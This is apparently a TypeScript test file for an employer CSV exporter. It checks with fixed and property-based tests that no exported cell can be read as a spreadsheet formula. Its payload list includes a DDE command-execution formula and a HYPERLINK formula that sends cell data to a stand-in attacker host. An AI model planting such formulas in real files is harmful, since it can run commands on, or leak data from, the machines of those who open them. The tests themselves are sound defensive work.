/**
 * An employer's CSV in a spreadsheet, by the rules of a small spreadsheet: with every separator of
 * cells, no foreign text is a formula, and with commas every text is in its own cell.
 */
import { expect } from "chai";
import fc from "fast-check";
import { type Cell, cellOf, csvOf } from "../../console/src/areas/employer/csv.ts";

const separators = [",", ";", "\t", "|"];

/**
 * The cells of a file. A quote quotes at the beginning of a cell alone, there a doubled one is a
 * quote and what follows the closing one belongs to the cell; with `quotes` false it is a character
 * like another, as for programs that split lines.
 */
function cellsOf(csv: string, separator: string, quotes: boolean): string[] {
  const cells: string[] = [];
  for (let at = 0; at <= csv.length; at += 1) {
    let cell = "";
    if (quotes && csv[at] === '"') {
      for (at += 1; at < csv.length; at += 1) {
        if (csv[at] === '"' && csv[at + 1] !== '"') break;
        if (csv[at] === '"') at += 1;
        cell += csv[at];
      }
      at += 1;
    }
    for (
      ;
      at < csv.length && csv[at] !== separator && csv[at] !== "\r" && csv[at] !== "\n";
      at += 1
    )
      cell += csv[at];
    cells.push(cell);
  }
  return cells;
}

/**
 * Whether a spreadsheet may compute a cell; also a spreadsheet that drops quotes and invisible
 * characters. An amount is a number.
 */
const computed = (cell: string) => {
  const seen = cell.replace(/^[\s"\p{Cc}\p{Cf}]+/u, "");
  return /^[=+\-@＝＋－＠]/.test(seen) && !/^-?\d{1,15}(\.\d+)?"?$/.test(seen);
};
const formulas = (rows: Cell[][]): string[] =>
  separators.flatMap((separator) =>
    [true, false].flatMap((quotes) => cellsOf(csvOf(rows), separator, quotes).filter(computed)),
  );

describe("an employer's CSV", () => {
  const payloads = [
    "=40+2",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1;"receipt")',
    "＝1+1",
    "＠x",
  ];
  const places = [
    "",
    "lunch;",
    "lunch,",
    "lunch\t",
    "lunch|",
    "lunch\n",
    "lunch\r\n",
    'lunch"',
    "lunch; ",
    "x;;",
    'x;"',
    'x;""',
    "a\u2028",
    "\u200b",
    "\ufeff",
    ";\u202e",
    "'",
  ];
  for (const place of places)
    it(`has no formula behind ${JSON.stringify(place)}`, () => {
      for (const payload of payloads) {
        const text = `${place}${payload};`;
        expect(
          formulas([
            ["id", "state", text, text, "end"],
            ["id", text],
          ]),
          text,
        ).deep.equals([]);
      }
    });

  it("has none in whatever texts stand side by side", () => {
    const text = fc.string({
      unit: fc.constantFrom(
        "=",
        "+",
        "-",
        "@",
        "1",
        "a",
        ";",
        ",",
        "|",
        "\t",
        "\n",
        "\r",
        '"',
        "'",
        " ",
        "\u200b",
        "\u0085",
        "＝",
      ),
      maxLength: 12,
    });
    fc.assert(
      fc.property(
        fc.array(fc.array(text, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 3 }),
        (rows) => {
          // the first cell of a row is ours
          expect(formulas(rows.map((row) => ["id", ...row]))).deep.equals([]);
        },
      ),
      { numRuns: 2_000 },
    );
  });

  it("with commas gives every text back, but for breaks of line and the apostrophe before a formula's sign", () => {
    const text = fc.string({
      unit: fc.constantFrom("a", "票", ";", ",", "|", '"', "'", " ", "1"),
      maxLength: 12,
    });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (row) => {
        expect(cellsOf(csvOf([row]).slice(1), ",", true).slice(0, row.length)).deep.equals(row);
      }),
    );
    expect(cellOf("A - B, 20-30; x=1")).equals('"A - B, 20-30; x=1"');
    expect(cellOf("two\r\nlines\tand more")).equals("two lines and more");
    expect(cellOf("=记-0042")).equals("'=记-0042");
    expect(cellOf("lunch;=40+2;")).equals('"lunch;\'=40+2;"');
  });

  it("keeps amounts numbers, and the digits of long numbers", () => {
    expect(["-188.68", 12, 0.5, true, undefined, "26442000000000000042"].map(cellOf)).deep.equals([
      "-188.68",
      "12",
      "0.5",
      "true",
      "",
      '"\t26442000000000000042"',
    ]);
  });
});
